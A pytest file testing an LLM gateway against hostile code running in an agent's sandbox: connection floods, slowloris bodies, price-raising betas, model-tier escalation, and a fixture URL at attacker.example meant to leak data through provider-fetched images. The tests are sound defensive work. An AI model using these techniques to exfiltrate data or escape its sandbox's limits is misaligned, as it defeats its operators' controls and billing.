"""The gateway attacked from inside the sandbox: it must be a wall, not a pipe (issue 23, items 6-11).

Code in the sandbox holds the run's gateway token (the CLI does not scrub its children's environment) and can
open the socket as often as it likes, announce any body, name any model, beta or source. Each test here drives
the real Gateway on its Unix socket (raw sockets, or the real anthropic SDK), the fake Anthropic server on
127.0.0.1 and the test's own PostgreSQL, and shows that what reaches HQ's process, HQ's database and the
provider is bounded, refused, or priced at what the provider bills.
"""

from __future__ import annotations

import base64
import contextlib
import json
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from decimal import Decimal
from pathlib import Path
from typing import Any

import anthropic
import httpx2
import psycopg
import pytest

from models import budget
from models.forwarder import ALLOWED_BETAS, CONTEXT_TOKENS, IMAGE_TOKENS, Forwarder
from models.router import CallContext, ModelRouter
from runtimes.gateway import MAX_BODY_BYTES, Gateway, GatewayLimits
from tests.fakes.anthropic_server import FakeAnthropic, Reply, error
from tests.support import gateway
from tests.support.gateway import (
    HI,
    MODEL,
    PRICE,
    UTILITY,
    assert_settled,
    billed,
    calls,
    deployment,
    micro,
    models,
    money,
)
from tests.support.models import call_context, router_for
from tests.support.rows import new_issue, one

# The gateway tests' fixtures: the fake provider, a router priced on it, the run's agent, a short socket path.
fake, router, boss, socket_path = gateway.fake, gateway.router, gateway.boss, gateway.socket_path

OPUS = "claude-opus-4-7"
OPUS_PRICE = (15, 75)  # the reasoning tier's: dearer, so serving a call on the wrong tier shows in its price
CLI_BETAS = (  # what the pinned Claude Code CLI (2.1.197) sends on every turn, recorded from the CLI itself
    "claude-code-20250219,interleaved-thinking-2025-05-14,thinking-token-count-2026-05-13,"
    "context-management-2025-06-27,prompt-caching-scope-2026-01-05,effort-2025-11-24"
)
PIXEL = base64.b64encode(bytes.fromhex("89504e470d0a1a0a")).decode()  # a few bytes: the image's size is not its cost


@contextmanager
def gateway_for(
    router: ModelRouter, ctx: CallContext, path: Path, limits: GatewayLimits | None = None
) -> Iterator[tuple[Gateway, anthropic.Anthropic]]:
    """A run's gateway (execution tier, utility as its fast tier) and an SDK client holding the run's token."""
    forwarder = Forwarder(router)
    with Gateway(forwarder, ctx, "execution", path, fast_tier="utility", limits=limits or GatewayLimits()) as gw:
        client = anthropic.Anthropic(
            api_key=gw.token,
            base_url="http://localhost",
            max_retries=0,
            timeout=10.0,
            http_client=httpx2.Client(transport=httpx2.HTTPTransport(uds=str(path))),
        )
        try:
            yield gw, client
        finally:
            client.close()
    forwarder.close()


def wire(body: dict[str, Any] | None, token: str | None, *, length: int | None = None) -> bytes:
    """A raw HTTP/1.1 request for /v1/messages: ``length`` announces a body other than the one sent."""
    data = json.dumps(body).encode() if body is not None else b""
    head = [
        "POST /v1/messages HTTP/1.1",
        "host: localhost",
        "content-type: application/json",
        f"content-length: {length if length is not None else len(data)}",
    ]
    if token is not None:
        head.append(f"x-api-key: {token}")
    return ("\r\n".join(head) + "\r\n\r\n").encode() + data


def connect(path: Path, timeout: float = 5.0) -> socket.socket:
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.connect(str(path))  # blocking: a full backlog waits for the server's accept
    sock.settimeout(timeout)
    return sock


def status_of(sock: socket.socket) -> int | None:
    """The status of the first answer on ``sock``, or None when it was closed without one."""
    data = b""
    while b"\r\n" not in data:
        try:
            chunk = sock.recv(4096)
        except ConnectionResetError:
            return None  # closed while its request was unread: a reset, not an answer
        if not chunk:
            return None
        data += chunk
    return int(data.split(b" ", 2)[1])


def refused_upstream(fake: FakeAnthropic, failure: pytest.ExceptionInfo[anthropic.BadRequestError], words: str) -> None:
    """A 400 request error that names the problem, and nothing sent to the provider."""
    assert failure.value.status_code == 400
    assert isinstance(failure.value.body, dict) and failure.value.body["error"]["type"] == "invalid_request_error"
    assert words in failure.value.body["error"]["message"]
    assert fake.requests == []


# --- 6: connections and database ----------------------------------------------------------------------------------
def test_a_flood_of_connections_holds_neither_threads_nor_database_connections(
    router: ModelRouter, fake: FakeAnthropic, raw: psycopg.Connection, boss: None, socket_path: Path
) -> None:
    """Sandboxed code opened max_connections + 30 keep-alive connections, each making one call: each gateway thread
    kept its own PostgreSQL connection, and every other client of the database got 'too many clients'. Now the
    connections beyond the cap are closed at once (no thread each), and the calls share a small pool."""
    (max_connections,) = one(raw.execute("SHOW max_connections").fetchone())
    flood_size = int(max_connections) + 30
    fake.default(MODEL, Reply(text="flooded", input_tokens=10, output_tokens=2))
    ctx = call_context(raw, None)
    limits = GatewayLimits()
    with gateway_for(router, ctx, socket_path) as (gateway, client):
        baseline = threading.active_count()
        flood: list[socket.socket] = []
        try:
            for _ in range(flood_size):
                sock = connect(socket_path)
                with contextlib.suppress(OSError):  # closed already: refused
                    sock.sendall(wire({"model": MODEL, "max_tokens": 10, "messages": HI}, gateway.token))
                flood.append(sock)
            served = [status_of(sock) for sock in flood[: limits.max_connections]]
            refused = [status_of(sock) for sock in flood[limits.max_connections :]]
            # Every connection is still open on the client's side, the served ones kept alive by the gateway.
            assert served == [200] * limits.max_connections
            assert all(status in (None, 503) for status in refused)
            # A thread per admitted connection, and the fake provider's own (one per upstream connection).
            assert threading.active_count() - baseline <= limits.max_connections + limits.max_upstream_calls
            with psycopg.connect(raw.info.dsn, autocommit=True) as other:  # any other client still gets in
                (budget_connections,) = one(
                    other.execute(
                        "SELECT count(*) FROM pg_stat_activity"
                        " WHERE datname = current_database() AND application_name = 'hq-budget'"
                    ).fetchone()
                )
            assert 1 <= budget_connections <= budget.POOL_SIZE
            assert gateway.calls == limits.max_connections
        finally:
            for sock in flood:
                sock.close()
        deadline = time.monotonic() + 5
        while True:  # the flood has ended: the gateway serves the run again
            try:
                answer = client.messages.create(model=MODEL, max_tokens=10, messages=HI)
                break
            except anthropic.APIConnectionError:
                assert time.monotonic() < deadline
                time.sleep(0.05)
        assert answer.content[0].type == "text"
    rows = calls(raw, ctx.run_id)
    assert len(rows) == limits.max_connections + 1 and {r["outcome"] for r in rows} == {"ok"}


def test_concurrent_upstream_calls_are_bounded_per_run(
    router: ModelRouter, fake: FakeAnthropic, raw: psycopg.Connection, boss: None, socket_path: Path
) -> None:
    """However many connections a run holds, at most ``max_upstream_calls`` of its calls are at the provider at
    once; the others wait their turn, and every one is answered and charged."""
    fake.default(MODEL, Reply(text="slow", input_tokens=10, output_tokens=2, delay_seconds=0.3))
    ctx = call_context(raw, None)
    limits = GatewayLimits(max_connections=8, max_upstream_calls=2)
    answers: list[int | None] = []
    with gateway_for(router, ctx, socket_path, limits) as (gateway, _):
        socks = [connect(socket_path) for _ in range(6)]
        try:
            for sock in socks:
                sock.sendall(wire({"model": MODEL, "max_tokens": 10, "messages": HI}, gateway.token))
            answers = [status_of(sock) for sock in socks]
        finally:
            for sock in socks:
                sock.close()
    assert answers == [200] * 6
    assert fake.peak_in_flight == 2
    assert len(calls(raw, ctx.run_id)) == 6


# --- 7: memory ---------------------------------------------------------------------------------------------------
def test_a_body_is_never_read_before_the_token_is_checked(
    router: ModelRouter, fake: FakeAnthropic, raw: psycopg.Connection, boss: None, socket_path: Path
) -> None:
    """Forty connections each announcing a 32 MiB body grew HQ by 2.5 GB. Without the run's token the answer is a
    401 before a byte of the body is read (none is ever sent here: a gateway that waited for it would hang)."""
    ctx = call_context(raw, None)
    with gateway_for(router, ctx, socket_path, GatewayLimits(max_connections=40)) as (gateway, _):
        socks = [connect(socket_path, timeout=3) for _ in range(40)]
        try:
            for sock in socks:
                sock.sendall(wire(None, None, length=32 * 1024 * 1024))
            assert [status_of(sock) for sock in socks] == [401] * 40
        finally:
            for sock in socks:
                sock.close()
        # With the token, a body larger than any real request is refused from its announced length, unread.
        with connect(socket_path, timeout=3) as sock:
            sock.sendall(wire(None, gateway.token, length=MAX_BODY_BYTES + 1))
            assert status_of(sock) == 413
    assert MAX_BODY_BYTES <= 8 * 1024 * 1024
    assert fake.requests == [] and calls(raw, ctx.run_id) == []


def test_a_slow_body_is_cut_off(
    router: ModelRouter, fake: FakeAnthropic, raw: psycopg.Connection, boss: None, socket_path: Path
) -> None:
    """Slowloris: a request that announces a body and then sends it slowly (or never) is dropped after the
    connection's timeout, so it cannot hold one of the run's few connections for ever."""
    ctx = call_context(raw, None)
    limits = GatewayLimits(io_timeout_seconds=0.5)
    with gateway_for(router, ctx, socket_path, limits) as (gateway, _), connect(socket_path, timeout=5) as sock:
        sock.sendall(wire(None, gateway.token, length=1000) + b'{"model": ')
        started = time.monotonic()
        status = status_of(sock)
        assert status in (None, 408) and time.monotonic() - started < 3
    assert fake.requests == []


# --- 8: nothing that makes the provider reach out ------------------------------------------------------------------
URL_IMAGE = {"type": "image", "source": {"type": "url", "url": "https://attacker.example/leak?data=secret"}}
FILE_DOCUMENT = {"type": "document", "source": {"type": "file", "file_id": "file_011CNha8iCJcU1wXNR6q4V8w"}}
REACHING_OUT: dict[str, Any] = {
    "a URL image": [{"role": "user", "content": [URL_IMAGE]}],
    "a file-id document": [{"role": "user", "content": [FILE_DOCUMENT]}],
    "a URL document in a tool result": [
        {"role": "user", "content": "go"},
        {"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_1", "name": "read", "input": {}}]},
        {
            "role": "user",
            "content": [
                {
                    "type": "tool_result",
                    "tool_use_id": "toolu_1",
                    "content": [{"type": "document", "source": {"type": "url", "url": "https://x.example/a.pdf"}}],
                }
            ],
        },
    ],
    "a URL image inside a content document": [
        {
            "role": "user",
            "content": [{"type": "document", "source": {"type": "content", "content": [URL_IMAGE]}}],
        }
    ],
    "a search result": [
        {
            "role": "user",
            "content": [
                {
                    "type": "search_result",
                    "source": "https://x.example",
                    "title": "t",
                    "content": [{"type": "text", "text": "x"}],
                }
            ],
        }
    ],
    "a container upload": [{"role": "user", "content": [{"type": "container_upload", "file_id": "file_01"}]}],
}


@pytest.mark.parametrize("case", list(REACHING_OUT))
def test_sources_the_provider_would_fetch_are_refused(
    case: str, router: ModelRouter, fake: FakeAnthropic, raw: psycopg.Connection, boss: None, socket_path: Path
) -> None:
    """A URL image made the provider fetch what sandboxed code named (data out of a sandbox with no network) and
    billed a document the reservation never counted. Whatever the nesting, the request is refused unsent."""
    ctx = call_context(raw, None)
    with gateway_for(router, ctx, socket_path) as (gateway, client):
        with pytest.raises(anthropic.BadRequestError) as refused:
            client.messages.create(model=MODEL, max_tokens=10, messages=REACHING_OUT[case])
        assert gateway.calls == 0
    refused_upstream(fake, refused, "not allowed through HQ")
    assert calls(raw, ctx.run_id) == []


def test_a_url_image_in_the_system_prompt_is_refused(
    router: ModelRouter, fake: FakeAnthropic, raw: psycopg.Connection, boss: None, socket_path: Path
) -> None:
    ctx = call_context(raw, None)
    with gateway_for(router, ctx, socket_path) as (_, client), pytest.raises(anthropic.BadRequestError) as refused:
        client.messages.create(
            model=MODEL,
            max_tokens=10,
            messages=HI,
            system=[{"type": "text", "text": "x"}, URL_IMAGE],  # type: ignore[list-item]
        )
    refused_upstream(fake, refused, "not allowed through HQ")


def test_inline_images_and_documents_reserve_their_worst_case(
    router: ModelRouter, fake: FakeAnthropic, raw: psycopg.Connection, boss: None, socket_path: Path
) -> None:
    """An inline image costs up to IMAGE_TOKENS whatever its bytes, and a PDF up to the whole context window:
    its pages cannot be counted from its bytes (page objects hide in compressed object streams, and a comment
    can name a page that is not there), and the provider bills the pages it renders. The reservation counts
    them so, not as the JSON text of their base64 (which over-counted images by the megabyte and under-counted
    small PDFs), and never more than a context window holds."""
    fake.default(MODEL, Reply(text="seen", input_tokens=10, output_tokens=2))
    issue = new_issue(raw, status="todo", budget_usd=50)
    ctx = call_context(raw, issue)
    pdf = b"%PDF-1.4\n1 0 obj << /Type /Page >> endobj\n2 0 obj << /Type /Page >> endobj\n3 0 obj << /Type /Pages >>"
    # One page named in a comment; the real pages sit in a compressed object stream the bytes do not show.
    disguised = b"%PDF-1.7\n% /Type /Page\n4 0 obj << /Type /ObjStm /N 300 /Filter /FlateDecode >> stream\n"
    big_image = base64.b64encode(b"\x89PNG" + bytes(3_000_000)).decode()  # 4 MB of base64: still one image
    image: Any = {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": PIXEL}}

    def document(data: bytes) -> Any:
        return {
            "type": "document",
            "source": {"type": "base64", "media_type": "application/pdf", "data": base64.b64encode(data).decode()},
        }

    big = {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": big_image}}
    contents = ([image], [document(pdf)], [document(disguised)], [document(b"%PDF-1.7")], [big], [image] * 100)
    with gateway_for(router, ctx, socket_path) as (_, client):
        for content in contents:
            message: Any = {"role": "user", "content": content}
            client.messages.create(model=MODEL, max_tokens=10, messages=[message])
    per_input, per_output = deployment(router).dearest_input, deployment(router).output_price
    reserved = [r["reserved_usd"] for r in calls(raw, ctx.run_id)]
    context = micro(per_input * CONTEXT_TOKENS + per_output * 10)
    assert reserved[0] >= per_input * IMAGE_TOKENS
    assert reserved[1] == reserved[2] == reserved[3] == context  # every PDF: the whole window, however it looks
    assert per_input * IMAGE_TOKENS <= reserved[4] < per_input * (IMAGE_TOKENS + 1000)  # not its base64's text
    assert reserved[5] == context  # a hundred images cannot be billed past the window either
    assert_settled(raw, issue, calls(raw, ctx.run_id))


# --- 9: premium usage --------------------------------------------------------------------------------------------
def test_one_hour_cache_writes_are_charged_at_their_own_price(
    router: ModelRouter, fake: FakeAnthropic, raw: psycopg.Connection, boss: None, socket_path: Path
) -> None:
    """``cache_control: {ttl: "1h"}`` writes bill at 2x input, 5-minute writes at 1.25x; the usage's
    ``cache_creation`` breakdown says which were which, streamed or not."""
    reply = Reply(
        text="cached",
        input_tokens=100,
        output_tokens=7,
        cache_creation_input_tokens=3000,
        cache_creation_1h_input_tokens=2000,
        cache_read_input_tokens=500,
    )
    fake.script(MODEL, reply, reply)
    issue = new_issue(raw, status="todo", budget_usd=1)
    ctx = call_context(raw, issue)
    with gateway_for(router, ctx, socket_path) as (_, client):
        client.messages.create(model=MODEL, max_tokens=10, messages=HI)
        with client.messages.stream(model=MODEL, max_tokens=10, messages=HI) as stream:
            stream.get_final_message()
    per_input = Decimal(str(PRICE[0])) / 1_000_000
    expected = billed(100, 7, 1000, 500) + micro(per_input * 2 * 2000)
    rows = calls(raw, ctx.run_id)
    assert [r["cost_usd"] for r in rows] == [expected, expected]
    assert [r["cache_write_tokens"] for r in rows] == [3000, 3000]
    assert deployment(router).dearest_input == per_input * 2  # a prompt may be written to the 1-hour cache whole
    assert_settled(raw, issue, rows)


@pytest.mark.parametrize(
    "betas",
    [["context-1m-2025-08-07"], ["files-api-2025-04-14"], ["claude-code-20250219", "some-new-beta-2099-01-01"]],
)
def test_betas_that_change_the_price_or_reach_out_are_refused(
    betas: list[str],
    router: ModelRouter,
    fake: FakeAnthropic,
    raw: psycopg.Connection,
    boss: None,
    socket_path: Path,
) -> None:
    """The ``anthropic-beta`` header was forwarded verbatim: a long-context beta bills at a premium HQ charged
    at the base price. Only betas on the allow-list go through; anything else is refused unsent."""
    ctx = call_context(raw, None)
    with gateway_for(router, ctx, socket_path) as (_, client), pytest.raises(anthropic.BadRequestError) as refused:
        client.beta.messages.create(model=MODEL, max_tokens=10, messages=HI, betas=betas)
    refused_upstream(fake, refused, "anthropic-beta")


def test_what_claude_code_sends_goes_through(
    router: ModelRouter, fake: FakeAnthropic, raw: psycopg.Connection, boss: None, socket_path: Path
) -> None:
    """The pinned CLI's own betas and body fields (adaptive thinking, effort, clearing old thinking) are
    harmless: priced by tokens like any call, nothing fetched. They are forwarded as sent."""
    ctx = call_context(raw, None)
    body = {
        "thinking": {"type": "adaptive"},
        "context_management": {"edits": [{"type": "clear_thinking_20251015", "keep": "all"}]},
        "output_config": {"effort": "high"},
        "metadata": {"user_id": "x"},
        "service_tier": "auto",
    }
    with gateway_for(router, ctx, socket_path) as (gw, _):
        status, _ = post(socket_path, gw.token, {"model": MODEL, "max_tokens": 10, "messages": HI, **body}, CLI_BETAS)
    assert status == 200
    (sent,) = fake.requests
    assert {k.lower(): v for k, v in sent["headers"].items()}["anthropic-beta"] == CLI_BETAS
    assert {k: sent["body"][k] for k in body} == body
    assert set(CLI_BETAS.split(",")) <= set(ALLOWED_BETAS)


def post(path: Path, token: str, body: dict[str, Any], betas: str | None = None) -> tuple[int, dict[str, Any]]:
    headers = {"x-api-key": token, **({"anthropic-beta": betas} if betas else {})}
    with httpx2.Client(transport=httpx2.HTTPTransport(uds=str(path))) as http:
        answer = http.post("http://localhost/v1/messages?beta=true", json=body, headers=headers)
        return answer.status_code, answer.json()


@pytest.mark.parametrize(
    "extra",
    [
        {"service_tier": "priority"},
        {"speed": "fast"},
        {"inference_geo": "us"},
        {"context_management": {"edits": [{"type": "compact_20260112"}]}},
        {"container": {"id": "x"}},
        {"some_future_field": True},
    ],
)
def test_body_fields_that_change_the_price_are_refused(
    extra: dict[str, Any],
    router: ModelRouter,
    fake: FakeAnthropic,
    raw: psycopg.Connection,
    boss: None,
    socket_path: Path,
) -> None:
    ctx = call_context(raw, None)
    with gateway_for(router, ctx, socket_path) as (gw, _):
        status, answer = post(socket_path, gw.token, {"model": MODEL, "max_tokens": 10, "messages": HI, **extra})
    assert status == 400 and answer["error"]["type"] == "invalid_request_error"
    assert "not allowed through HQ" in answer["error"]["message"]
    assert fake.requests == [] and calls(raw, ctx.run_id) == []


# --- 10: a call sent but never answered ----------------------------------------------------------------------------
def test_a_timeout_after_sending_is_charged_and_not_retried(
    tmp_path: Path,
    fake: FakeAnthropic,
    monkeypatch: pytest.MonkeyPatch,
    raw: psycopg.Connection,
    boss: None,
    socket_path: Path,
) -> None:
    """The provider received the request and may bill what it generated: the call is charged its reservation
    (the documented worst case), and it is not sent again (a POST that may have run is not replayed)."""
    path = models(tmp_path, fake, retries=2)
    document = json.loads(path.read_text())
    document["router"]["timeout_seconds"] = 1
    path.write_text(json.dumps(document))
    router = router_for(path, monkeypatch)
    fake.default(MODEL, Reply(text="too late", delay_seconds=3))
    issue = new_issue(raw, status="todo", budget_usd=1)
    ctx = call_context(raw, issue)
    with gateway_for(router, ctx, socket_path) as (gateway, client):
        with pytest.raises(anthropic.BadRequestError):
            client.messages.create(model=MODEL, max_tokens=50, messages=HI)
        assert gateway.failure is not None
    assert fake.calls_for(MODEL) == 1
    (row,) = calls(raw, ctx.run_id)
    assert row["outcome"] == "error" and "charged its worst case" in row["error"]
    assert row["cost_usd"] == micro(row["reserved_usd"]) > 0
    assert money(raw, issue)[1] == row["cost_usd"]
    assert_settled(raw, issue, [row])


def test_a_connection_refused_before_sending_is_retried_free(
    tmp_path: Path,
    fake: FakeAnthropic,
    monkeypatch: pytest.MonkeyPatch,
    raw: psycopg.Connection,
    boss: None,
    socket_path: Path,
) -> None:
    """A failure that happened before the request could reach the provider costs nothing and may be retried:
    here the tier's first deployment is a closed port, and its backup serves."""
    closed = socket.socket()
    closed.bind(("127.0.0.1", 0))
    port = closed.getsockname()[1]
    closed.close()
    tiers = {"reasoning": [f"anthropic/{MODEL}"], "execution": [f"anthropic/{MODEL}", f"anthropic/{UTILITY}"]}
    tiers["utility"] = [f"anthropic/{UTILITY}"]
    path = models(tmp_path, fake, tiers, retries=1)
    document = json.loads(path.read_text())
    document["tiers"]["execution"][0]["api_base"] = f"http://127.0.0.1:{port}"
    path.write_text(json.dumps(document))
    router = router_for(path, monkeypatch)
    fake.default(UTILITY, Reply(text="backup", input_tokens=10, output_tokens=2))
    issue = new_issue(raw, status="todo", budget_usd=1)
    ctx = call_context(raw, issue)
    with gateway_for(router, ctx, socket_path) as (_, client):
        assert client.messages.create(model=MODEL, max_tokens=10, messages=HI).content[0].type == "text"
    failed, served = calls(raw, ctx.run_id)
    assert (failed["outcome"], failed["cost_usd"]) == ("error", 0)
    assert served["outcome"] == "fallback" and served["cost_usd"] == billed(10, 2)
    assert_settled(raw, issue, [failed, served])


# --- 11: the role's tiers decide ---------------------------------------------------------------------------------
def test_the_model_name_cannot_pick_a_dearer_tier(
    tmp_path: Path,
    fake: FakeAnthropic,
    monkeypatch: pytest.MonkeyPatch,
    raw: psycopg.Connection,
    boss: None,
    socket_path: Path,
) -> None:
    """An execution-tier run asking for ``hq-reasoning`` or an opus model is served, and priced, by its own
    tier; a name only chooses between the role's tier and its fast tier."""
    tiers = {
        "reasoning": [f"anthropic/{OPUS}"],
        "execution": [f"anthropic/{MODEL}"],
        "utility": [f"anthropic/{UTILITY}"],
    }
    path = models(tmp_path, fake, tiers)
    document = json.loads(path.read_text())
    document["tiers"]["reasoning"][0].update(input_usd_per_mtok=OPUS_PRICE[0], output_usd_per_mtok=OPUS_PRICE[1])
    path.write_text(json.dumps(document))
    router = router_for(path, monkeypatch)
    fake.default("*", Reply(text="fine", input_tokens=100, output_tokens=10))
    issue = new_issue(raw, status="todo", budget_usd=1)
    ctx = call_context(raw, issue)
    asked = ["hq-reasoning", OPUS, "claude-opus-4-1-20250805", "hq-utility", UTILITY, "gpt-5"]
    with gateway_for(router, ctx, socket_path) as (_, client):
        for model in asked:
            client.messages.create(model=model, max_tokens=10, messages=HI)
    assert [r["body"]["model"] for r in fake.requests] == [MODEL, MODEL, MODEL, UTILITY, UTILITY, MODEL]
    rows = calls(raw, ctx.run_id)
    assert [r["tier"] for r in rows] == ["execution"] * 3 + ["utility"] * 2 + ["execution"]
    assert [r["cost_usd"] for r in rows] == [billed(100, 10)] * 6  # the models file prices all but opus alike
    assert_settled(raw, issue, rows)


# --- the previous session's open points ----------------------------------------------------------------------------
def test_a_client_hanging_up_prints_no_traceback(
    router: ModelRouter,
    fake: FakeAnthropic,
    raw: psycopg.Connection,
    boss: None,
    socket_path: Path,
    capfd: pytest.CaptureFixture[str],
) -> None:
    ctx = call_context(raw, None)
    with gateway_for(router, ctx, socket_path) as (gateway, client):
        for _ in range(5):
            with connect(socket_path) as sock:
                sock.sendall(wire({"model": MODEL, "messages": HI}, gateway.token).replace(b"/v1/messages", b"/x"))
        for _ in range(5):
            with connect(socket_path) as sock:
                sock.sendall(wire(None, None, length=10))
        time.sleep(0.3)
        assert client.messages.count_tokens(model=MODEL, messages=HI).input_tokens > 0
    assert "Traceback" not in capfd.readouterr().err


def test_a_request_the_provider_refuses_does_not_cool_the_deployment_for_other_runs(
    tmp_path: Path,
    fake: FakeAnthropic,
    monkeypatch: pytest.MonkeyPatch,
    raw: psycopg.Connection,
    boss: None,
    socket_path: Path,
) -> None:
    """A 400 is the request's own fault and says nothing of the deployment: sandboxed code that provokes one
    (free: the provider does not bill it) must not send every run of the process to the backup deployment."""
    backup = OPUS
    tiers = {"reasoning": [f"anthropic/{OPUS}"], "execution": [f"anthropic/{MODEL}", f"anthropic/{backup}"]}
    router = router_for(models(tmp_path, fake, {**tiers, "utility": [f"anthropic/{UTILITY}"]}), monkeypatch)
    fake.script(MODEL, error(400, "messages: malformed on purpose"))
    fake.default(MODEL, Reply(text="primary", input_tokens=10, output_tokens=2))
    fake.default(backup, Reply(text="backup", input_tokens=10, output_tokens=2))
    with (
        gateway_for(router, call_context(raw, None), socket_path) as (_, client),
        pytest.raises(anthropic.BadRequestError),
    ):
        client.messages.create(model=MODEL, max_tokens=10, messages=HI)
    with gateway_for(router, call_context(raw, None), socket_path) as (_, client):  # another run, same process
        answer = client.messages.create(model=MODEL, max_tokens=10, messages=HI)
    assert answer.content[0].type == "text" and answer.content[0].text == "primary"
    assert fake.calls_for(backup) == 0 and not router.cooling(deployment(router))


def test_a_forbidden_request_does_not_pause_hqs_key(
    router: ModelRouter, fake: FakeAnthropic, raw: psycopg.Connection, boss: None, socket_path: Path
) -> None:
    """A 403 the sandbox's request caused (a permission its request needs) is that request's error: passed
    through, and HQ's key stays usable for the next call. Only a refused key (401) pauses it."""
    fake.script(MODEL, error(403, "this organization cannot use that"))
    fake.default(MODEL, Reply(text="still here", input_tokens=10, output_tokens=2))
    ctx = call_context(raw, None)
    with gateway_for(router, ctx, socket_path) as (_, client):
        with pytest.raises(anthropic.PermissionDeniedError):
            client.messages.create(model=MODEL, max_tokens=10, messages=HI)
        assert client.messages.create(model=MODEL, max_tokens=10, messages=HI).content[0].type == "text"
    assert router.paused == set()
    assert [r["outcome"] for r in calls(raw, ctx.run_id)] == ["error", "ok"]
